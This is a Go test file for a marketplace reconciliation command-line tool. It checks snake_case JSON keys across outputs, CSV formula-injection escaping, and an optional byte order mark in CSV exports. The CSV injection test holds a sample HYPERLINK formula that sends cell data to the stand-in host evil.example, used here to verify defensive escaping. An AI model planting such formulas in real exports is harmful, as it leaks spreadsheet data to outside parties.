package main

import (
	"bytes"
	"crypto/sha256"
	"encoding/csv"
	"encoding/hex"
	"encoding/json"
	"os"
	"path/filepath"
	"regexp"
	"sort"
	"strconv"
	"strings"
	"testing"

	"github.com/connects/connects-reconciler/reconcile/postgres/pgtest"
)

// snakeKey is the one key style of every JSON the job writes.
var snakeKey = regexp.MustCompile(`^[a-z][a-z0-9]*(_[a-z0-9]+)*$`)

// badKeys walks a decoded JSON value and returns the path of every object
// key that is not snake_case.
func badKeys(path string, v any, out map[string]bool) {
	switch v := v.(type) {
	case map[string]any:
		for k, x := range v {
			if !snakeKey.MatchString(k) {
				out[path+"."+k] = true
			}
			badKeys(path+"."+k, x, out)
		}
	case []any:
		for _, x := range v {
			badKeys(path+"[]", x, out)
		}
	}
}

// checkKeys decodes every JSON value in text (one document, or one per
// line when lines is true) and reports keys that are not snake_case.
func checkKeys(t *testing.T, what, text string, lines bool) {
	t.Helper()
	docs := []string{text}
	if lines {
		docs = nil
		for _, l := range strings.Split(text, "\n") {
			if l = strings.TrimSpace(l); l != "" {
				docs = append(docs, l)
			}
		}
	}
	bad := map[string]bool{}
	for _, d := range docs {
		var v any
		if err := json.Unmarshal([]byte(d), &v); err != nil {
			t.Errorf("%s: not JSON: %v\n%s", what, err, d)
			continue
		}
		badKeys("", v, bad)
	}
	if len(bad) > 0 {
		var keys []string
		for k := range bad {
			keys = append(keys, k)
		}
		sort.Strings(keys)
		t.Errorf("%s: keys not in snake_case: %s", what, strings.Join(keys, ", "))
	}
}

// outputsMarket seeds a marketplace through the binary, runs a full sweep,
// acknowledges one exception with the given note and by, and returns the URL
// and the acknowledged exception's proposal and kind.
func outputsMarket(t *testing.T, bin, note, by string) (url string, proposal int64, kind string, seedOut, logs string) {
	t.Helper()
	url = pgtest.NewURL(t)
	code, seedOut, stderr := runBinary(t, bin, url, "seed", "--proposals", "3000", "--seed", "7",
		"--anchor", "2026-10-01T12:00:00Z", "--missing-percent", "20")
	if code != exitOK {
		t.Fatalf("seed: exit %d\n%s", code, stderr)
	}
	logs = stderr
	code, _, stderr = runBinary(t, bin, url, "run", "--full", "--format", "json")
	if code != exitOK {
		t.Fatalf("run: exit %d\n%s", code, stderr)
	}
	logs += stderr
	code, stdout, stderr := runBinary(t, bin, url, "discrepancies", "list", "--format", "json")
	if code != exitOK {
		t.Fatalf("discrepancies list: exit %d\n%s", code, stderr)
	}
	var list struct {
		Exceptions []struct {
			ProposalID int64  `json:"proposal_id"`
			Component  string `json:"component"`
			Kind       string `json:"kind"`
		} `json:"exceptions"`
	}
	if err := json.Unmarshal([]byte(stdout), &list); err != nil {
		t.Fatalf("discrepancies list: %v\n%s", err, stdout)
	}
	if len(list.Exceptions) == 0 || list.Exceptions[0].ProposalID == 0 {
		t.Fatalf("discrepancies list: want exceptions with proposal_id, component and kind, got\n%s", stdout)
	}
	e := list.Exceptions[0]
	code, _, stderr = runBinary(t, bin, url, "discrepancies", "ack", "--proposal", strconv.FormatInt(e.ProposalID, 10),
		"--component", e.Component, "--kind", e.Kind, "--note", note, "--by", by)
	if code != exitOK {
		t.Fatalf("discrepancies ack: exit %d\n%s", code, stderr)
	}
	return url, e.ProposalID, e.Kind, seedOut, logs + stderr
}

// Every JSON the job writes, on stdout, in files and in its logs, spells
// its keys one way: snake_case. (discrepancies list --format json once
// mixed ProposalID, Component and Kind in from an untagged embedded struct.)
func TestJSONKeysOneStyle(t *testing.T) {
	t.Parallel()
	bin := buildBinary(t)
	url, proposal, _, seedOut, logs := outputsMarket(t, bin, "checked with the client", "ana")
	dir := t.TempDir()
	checkKeys(t, "seed", seedOut, false)

	outputs := map[string][]string{
		"run --dry-run":              {"run", "--dry-run", "--full", "--format", "json", "--plan-out", filepath.Join(dir, "plan.json")},
		"run":                        {"run", "--full", "--format", "json"},
		"run --plan":                 {"run", "--plan", filepath.Join(dir, "plan.json"), "--format", "json"},
		"discrepancies list":         {"discrepancies", "list", "--state", "all", "--format", "json"},
		"export refunds":             {"export", "--kind", "refunds", "--from", "2026-01-01", "--to", "2030-01-01", "--format", "json", "--out", filepath.Join(dir, "refunds.json")},
		"export refunds (stdout)":    {"export", "--kind", "refunds", "--from", "2026-01-01", "--to", "2030-01-01", "--format", "json"},
		"export summary":             {"export", "--kind", "summary", "--from", "2026-01-01", "--to", "2030-01-01", "--format", "json"},
		"export discrepancies":       {"export", "--kind", "discrepancies", "--format", "json"},
		"export discrepancies (csv)": {"export", "--kind", "discrepancies", "--out", filepath.Join(dir, "d.csv")},
		"explain --proposal":         {"explain", "--proposal", strconv.FormatInt(proposal, 10), "--format", "json"},
		"migrate status":             {"migrate", "status", "--format", "json"},
	}
	names := make([]string, 0, len(outputs))
	for name := range outputs {
		names = append(names, name)
	}
	sort.Strings(names)
	// the plan file first: run --plan reads it
	sort.SliceStable(names, func(i, j int) bool { return names[i] == "run --dry-run" })
	for _, name := range names {
		args := outputs[name]
		code, stdout, stderr := runBinary(t, bin, url, args...)
		if code != exitOK {
			t.Fatalf("%s: exit %d\n%s", name, code, stderr)
		}
		if stdout != "" {
			checkKeys(t, name, stdout, false)
		}
		logs += stderr
	}
	// closing a period prints its record
	code, stdout, stderr := runBinary(t, bin, url, "close-period", "--from", "2026-07-01", "--to", "2026-10-02", "--by", "ana")
	if code != exitOK {
		t.Fatalf("close-period: exit %d\n%s", code, stderr)
	}
	checkKeys(t, "close-period", stdout, false)
	logs += stderr
	for _, f := range []string{"plan.json", "refunds.json", "refunds.json.manifest.json", "d.csv.manifest.json"} {
		b, err := os.ReadFile(filepath.Join(dir, f))
		if err != nil {
			t.Fatal(err)
		}
		checkKeys(t, f, string(b), false)
	}
	// the freelancer of the proposal, for explain --freelancer
	code, stdout, stderr = runBinary(t, bin, url, "explain", "--proposal", strconv.FormatInt(proposal, 10), "--format", "json")
	if code != exitOK {
		t.Fatalf("explain: exit %d\n%s", code, stderr)
	}
	var ex struct {
		Proposals []struct {
			FreelancerID int64 `json:"freelancer_id"`
		} `json:"proposals"`
	}
	if err := json.Unmarshal([]byte(stdout), &ex); err != nil || len(ex.Proposals) != 1 {
		t.Fatalf("explain: %v\n%s", err, stdout)
	}
	code, stdout, stderr = runBinary(t, bin, url, "explain", "--freelancer", strconv.FormatInt(ex.Proposals[0].FreelancerID, 10), "--format", "json")
	if code != exitOK {
		t.Fatalf("explain --freelancer: exit %d\n%s", code, stderr)
	}
	checkKeys(t, "explain --freelancer", stdout, false)
	logs += stderr
	// a way out that is not a success is a record too
	code, _, stderr = runBinary(t, bin, url, "explain", "--proposal", "999999999", "--format", "json")
	if code == exitOK || !strings.Contains(stderr, "999999999") {
		t.Errorf("explain of a proposal that does not exist: exit %d\n%s", code, stderr)
	}
	checkKeys(t, "logs", logs+stderr, true)
}

// A note or a name that begins like a formula is written to every CSV
// cell as text a spreadsheet will not evaluate (OWASP CSV injection): with
// a leading apostrophe. The JSON keeps it as given.
func TestCSVFormulaInjection(t *testing.T) {
	t.Parallel()
	bin := buildBinary(t)
	note := `=HYPERLINK("http://evil.example/?"&A1,"click")`
	url, proposal, kind, _, _ := outputsMarket(t, bin, note, "@attacker")
	out := filepath.Join(t.TempDir(), "discrepancies.csv")
	if code, _, stderr := runBinary(t, bin, url, "export", "--kind", "discrepancies", "--out", out); code != exitOK {
		t.Fatalf("export: exit %d\n%s", code, stderr)
	}
	rows := readCSV(t, out)
	col := map[string]int{}
	for i, c := range rows[0] {
		col[c] = i
	}
	var found bool
	for _, r := range rows[1:] {
		for i, c := range r {
			if _, err := strconv.ParseFloat(c, 64); err == nil {
				continue // a number (a negative difference): no formula
			}
			if c != "" && strings.ContainsRune("=+-@\t\r", rune(c[0])) {
				t.Errorf("row %v: column %s begins with %q, a spreadsheet formula", r[:4], rows[0][i], c[0])
			}
		}
		if r[col["proposal_id"]] == strconv.FormatInt(proposal, 10) && r[col["kind"]] == kind {
			found = true
			if got := r[col["note"]]; got != "'"+note {
				t.Errorf("note cell: got %q, want %q", got, "'"+note)
			}
			if got := r[col["acked_by"]]; got != "'@attacker" {
				t.Errorf("acked_by cell: got %q, want %q", got, "'@attacker")
			}
		}
	}
	if !found {
		t.Fatalf("no row of proposal %d %s in\n%v", proposal, kind, rows)
	}
	code, stdout, stderr := runBinary(t, bin, url, "export", "--kind", "discrepancies", "--format", "json")
	if code != exitOK {
		t.Fatalf("export json: exit %d\n%s", code, stderr)
	}
	if !strings.Contains(stdout, `"note":`+jsonString(note)) {
		t.Errorf("the JSON export changed the note; want it as given: %s", jsonString(note))
	}
}

func jsonString(s string) string { b, _ := json.Marshal(s); return string(b) }

// export --bom begins the CSV with a UTF-8 byte order mark (Excel then reads
// accented names right), covered by the checksum; without it, no mark; with
// JSON it is refused.
func TestCSVByteOrderMark(t *testing.T) {
	t.Parallel()
	bin := buildBinary(t)
	url, _, _, _, _ := outputsMarket(t, bin, "Zoë Ångström checked", "Zoë")
	dir := t.TempDir()
	for _, bom := range []bool{false, true} {
		out := filepath.Join(dir, "d"+strconv.FormatBool(bom)+".csv")
		args := []string{"export", "--kind", "discrepancies", "--out", out}
		if bom {
			args = append(args, "--bom")
		}
		if code, _, stderr := runBinary(t, bin, url, args...); code != exitOK {
			t.Fatalf("%v: exit %d\n%s", args, code, stderr)
		}
		b, err := os.ReadFile(out)
		if err != nil {
			t.Fatal(err)
		}
		if got := bytes.HasPrefix(b, []byte("\xef\xbb\xbf")); got != bom {
			t.Errorf("--bom %v: file begins with a BOM: %v", bom, got)
		}
		sum := sha256.Sum256(b)
		if s, _ := os.ReadFile(out + ".sha256"); !strings.HasPrefix(string(s), hex.EncodeToString(sum[:])) {
			t.Errorf("--bom %v: checksum file %q does not match the file", bom, s)
		}
		r := csv.NewReader(bytes.NewReader(bytes.TrimPrefix(b, []byte("\xef\xbb\xbf"))))
		recs, err := r.ReadAll()
		if err != nil || len(recs) < 2 || recs[0][0] != "kind" {
			t.Errorf("--bom %v: %v; header %v", bom, err, recs)
		}
		if !strings.Contains(string(b), "Zoë Ångström checked") {
			t.Errorf("--bom %v: the accented note is not in the file as UTF-8", bom)
		}
	}
	code, _, stderr := runBinary(t, bin, url, "export", "--kind", "discrepancies", "--format", "json", "--bom")
	if code != exitUsage || !strings.Contains(stderr, "--bom") {
		t.Errorf("--bom with JSON: exit %d, want %d naming --bom\n%s", code, exitUsage, stderr)
	}
}
